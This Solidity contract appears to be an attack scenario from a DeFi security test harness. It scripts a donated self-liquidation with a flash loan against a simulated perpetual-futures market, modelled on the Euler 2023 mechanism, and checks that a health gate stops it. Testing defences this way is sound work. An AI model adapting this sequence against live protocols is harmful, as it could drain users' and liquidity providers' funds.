// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Deed} from "./Attack.sol";
import {Crew} from "./Crew.sol";
import {Actor} from "./worlds/Actor.sol";
import {World} from "./worlds/World.sol";

/// Two accounts hold both sides of a trade. The price moves a little; the one that lost gives its whole margin to the
/// makers, of whom he is nineteen in twenty for the length of a flash loan, and has nothing left to lose with. His
/// third account liquidates it: the loss is the fund's, the other side's gain is his, and the gift comes back with the
/// makers' shares. The penalty is none of it, as it is taken of margin that is there. Mechanism of Euler 2023. Stopped
/// by the health gate, which looks at whoever a call touched, whatever the call was (PERP-03).
contract DonatedSelfLiquidation is Crew {
    uint256 private constant LOAN = 19_000_000 * USD;
    Actor private _loser;
    Actor private _winner;

    constructor(World world_) Crew(world_) {}

    function naiveLoss() external pure override returns (uint256) {
        return 135_000 * USD;
    }

    function bound() external pure override returns (uint256) {
        return 0;
    }

    /// Where makers have to stay, no loan makes him one: he brings as much himself.
    function capital() external view override returns (uint256, uint256) {
        return (803_000 * USD + (world.isHardened() ? LOAN : 0), 0);
    }

    function steps() external pure override returns (uint256) {
        return 5;
    }

    /// For the oracle's mean to have followed.
    function waitBefore(uint256 step) external pure override returns (uint256) {
        return step == 3 ? 1 hours : 12;
    }

    function others(uint256 step) external view override returns (Deed[] memory deeds) {
        if (step != 2) return deeds;
        deeds = new Deed[](1);
        deeds[0] = Deed(address(world), abi.encodeCall(world.setHonest, (moved())), false);
    }

    /// Where the market goes.
    function moved() public view virtual returns (uint256) {
        return 1_920e18;
    }

    function _step(uint256 step) internal override {
        if (step == 0) _open();
        if (step < 2) _fill();
        bool stands = perp.positionOf(address(_loser), MARKET).size != 0;
        if ((step == 2 || step == 3) && stands) {
            if (world.isHardened()) _give();
            else lender.flash(usd, LOAN, "");
        }
        if (step == 4) {
            _closeOf(_loser);
            _closeOf(_winner);
        }
    }

    function _open() private {
        bool isHardened = world.isHardened();
        uint256 margin = (isHardened ? 10_000 : 401_000) * USD;
        int128 size = isHardened ? int128(20e18) : int128(2_000e18);
        if (isHardened) _provide();
        (_loser, _winner) = (_hire(margin), _hire(margin));
        _order(_loser, size);
        _order(_winner, -size);
    }

    function _flashed(bytes calldata) internal override {
        _provide();
        _give();
        perp.removeLiquidity(MARKET, perp.sharesOf(address(this), MARKET));
    }

    function _provide() private {
        perp.deposit(LOAN);
        perp.addLiquidity(MARKET, LOAN);
    }

    function _give() private {
        _do(_loser, abi.encodeCall(perp.donate, (MARKET, _marginOf(address(_loser)))));
        perp.liquidate(address(_loser), MARKET, type(uint256).max);
        _closeOf(_winner);
    }
}
